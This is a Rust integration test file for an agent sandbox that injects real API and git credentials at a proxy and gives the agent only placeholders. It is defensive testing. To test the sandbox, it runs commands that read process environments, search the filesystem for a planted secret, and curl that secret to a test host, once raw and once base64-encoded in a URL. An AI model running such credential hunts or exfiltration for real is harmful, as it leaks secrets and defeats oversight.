//! Credentials stay outside the bottle (issue 11; `#[ignore]`d, run by tests/run.sh with
//! `--ignored`): injected at mitmproxy on their hosts only, never held by the agent, a
//! found real value refused, and git clone/commit/push over an ssh-style remote through
//! the proxy chain with the credential injected.

use crate::support::engine::{self, Bottle, Internet, docker, docker_try, leftovers};
use crate::support::git_server;
use std::time::Duration;

const T: Duration = Duration::from_secs(120);

/// A real-format random token: `prefix` then `len` letters and digits.
fn token(prefix: &str, len: usize) -> String {
    let hex = crate::support::engine::secret_value();
    let mut out = prefix.to_string();
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    for (i, b) in hex.bytes().cycle().enumerate().take(len) {
        out.push(alphabet[(b as usize * 7 + i * 13) % alphabet.len()] as char);
    }
    out
}

/// The model-shaped request and the same request to another allowlisted host: only the
/// first carries the real value; the agent holds the placeholder, and the real value is
/// nowhere in the agent (environment, every process, files, `docker inspect`) nor in
/// bottle's `-v` output. A real value found in the workspace and posted is refused.
#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn the_model_credential_is_injected_for_its_host_only_and_never_held_by_the_agent() {
    let e = engine::engine();
    let agent = "t-cred";
    let key = format!("sk-ant-api03-{}AA", token("", 93));
    let manifest = format!(
        r#"{{ "bottles": {{ "cred": {{ "egress": {{
      "allowlist": ["allowed.test", "*.allowed.test"],
      "private_hosts": ["allowed.test", "*.allowed.test", "api.anthropic.com"] }} }} }},
  "agents": {{ "{agent}": {{ "bottle": "cred" }} }} }}"#
    );
    let t = e.user(&manifest).env("ANTHROPIC_API_KEY", &key);
    // Long enough for a search of the agent's whole filesystem on a busy machine.
    let mut bottle = Bottle::spawn(&t, &["run", "-v", agent, "--", "sleep", "900"]);
    let origin_config = serde_json::json!({"api": {"keys": [key]}}).to_string();
    let net = Internet::attach_with(&e, agent, Some(&origin_config));
    let agent_ctr = bottle.wait_for_attach(T);
    let in_agent = |script: &str| docker_try(&["exec", &agent_ctr, "sh", "-c", script]);

    let (_, placeholder) = in_agent("printenv ANTHROPIC_API_KEY");
    assert_eq!(
        placeholder.trim(),
        "bot-bottle-placeholder-ANTHROPIC_API_KEY"
    );
    let request = |host: &str| {
        format!(
            r#"curl -sS --max-time 30 -o /dev/null -w '%{{http_code}}' -X POST https://{host}/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' --data '{{"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": [{{"role": "user", "content": "hi"}}]}}'"#
        )
    };
    let (_, status) = in_agent(&request("api.anthropic.com"));
    assert_eq!(status.trim(), "200", "the model API refused: {status}");
    let (_, status) = in_agent(&request("allowed.test"));
    assert_eq!(status.trim(), "200", "{status}");
    let seen = net.seen();
    let api_key = |host: &str| -> Vec<String> {
        seen["requests"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["host"].as_str().is_some_and(|h| h.starts_with(host)))
            .filter(|r| {
                r["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/v1/messages"))
            })
            .flat_map(|r| r["headers"].as_array().unwrap().clone())
            .filter(|h| {
                h[0].as_str()
                    .is_some_and(|n| n.eq_ignore_ascii_case("x-api-key"))
            })
            .map(|h| h[1].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(api_key("api.anthropic.com"), vec![key.clone()], "{seen}");
    assert_eq!(
        api_key("allowed.test"),
        ["bot-bottle-placeholder-ANTHROPIC_API_KEY"],
        "another host got something else than the placeholder"
    );

    // Nowhere in the agent.
    let (_, environs) = in_agent("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'");
    assert!(
        environs.contains("ANTHROPIC_API_KEY=bot-bottle-placeholder"),
        "{environs}"
    );
    assert!(
        !environs.contains(&key),
        "the real value is in a process's environment"
    );
    // Every file of the container's own filesystem (not /proc, /sys, /dev: other mounts),
    // but the few large binaries, which nothing writes at run time.
    let (_, files) = in_agent(&format!(
        "find / -xdev -type f -size -8M -print0 2>/dev/null | xargs -0 grep -lF -- '{key}' 2>/dev/null; true"
    ));
    assert_eq!(files.trim(), "", "the real value is in a file of the agent");
    let inspect = docker(&["inspect", &agent_ctr]);
    assert!(
        !inspect.contains(&key),
        "docker inspect of the agent shows the real value"
    );
    assert!(inspect.contains("bot-bottle-placeholder-ANTHROPIC_API_KEY"));

    // A real value the agent finds (planted in its workspace) does not leave.
    let plant = std::process::Command::new("docker")
        .args([
            "exec",
            "-i",
            &agent_ctr,
            "sh",
            "-c",
            "cat > /home/agent/work/found.txt",
        ])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            std::io::Write::write_all(c.stdin.as_mut().unwrap(), key.as_bytes())?;
            c.wait()
        })
        .unwrap();
    assert!(plant.success());
    let (_, refused) = in_agent(
        "curl -sS --max-time 30 -D - -o - --data-binary @/home/agent/work/found.txt https://allowed.test/echo",
    );
    assert!(refused.contains(" 403"), "{refused}");
    assert!(
        refused
            .to_lowercase()
            .contains("x-bot-bottle-block-reason: credential_leak"),
        "{refused}"
    );
    let (_, refused) = in_agent(
        "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' \"https://allowed.test/echo?k=$(base64 -w0 /home/agent/work/found.txt)\"",
    );
    assert_eq!(refused.trim(), "403", "the value base64'd in a URL left");
    let echoed: Vec<serde_json::Value> = net.seen()["requests"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with("/echo")))
        .cloned()
        .collect();
    assert!(
        echoed.is_empty(),
        "a refused request reached the origin: {echoed:#?}"
    );

    bottle.signal(libc::SIGTERM);
    let (code, out, err) = bottle.finish(T);
    assert_eq!(code, 128 + libc::SIGTERM, "{err}");
    assert!(
        err.contains("+ docker run --detach"),
        "-v shows the commands"
    );
    assert!(
        !err.contains(&key) && !out.contains(&key),
        "the real value is in bottle's output"
    );
    assert_eq!(leftovers(agent), Vec::<String>::new());
}

/// git through the chain: bottle's git identity, an ssh-style remote rewritten to HTTPS,
/// and the Basic credential injected by mitmproxy: clone, commit and push succeed, and the
/// git server saw the real token while the agent had only the placeholder.
#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn git_clone_commit_and_push_over_an_ssh_style_remote_with_the_injected_credential() {
    let e = engine::engine();
    let agent = "t-git";
    let git_token = token("ghp_", 36);
    let script = r#"set -e
cd /home/agent/work
test "$GIT_TOKEN" = bot-bottle-placeholder-GIT_TOKEN
git clone -q git@git.allowed.test:repo.git
cd repo
git config remote.origin.url
echo "from the bottle" > bottle.txt
git add bottle.txt
git commit -q -m "agent commit"
git push -q origin HEAD:main
git log -1 --format='PUSHED %an <%ae> %s'"#;
    let (net, out, err) = git_server::run_script(&e, agent, "", &git_token, script, T);
    assert!(out.contains("git@git.allowed.test:repo.git"), "{out}");
    assert!(
        out.contains("PUSHED Ada Bot <ada@example.com> agent commit"),
        "{out}"
    );
    let served = git_server::served(&net);
    assert!(
        served.contains("agent commit") && served.contains("bottle.txt"),
        "the push did not arrive: {served}"
    );
    assert!(!out.contains(&git_token) && !err.contains(&git_token));
    assert_eq!(leftovers(agent), Vec::<String>::new());
}
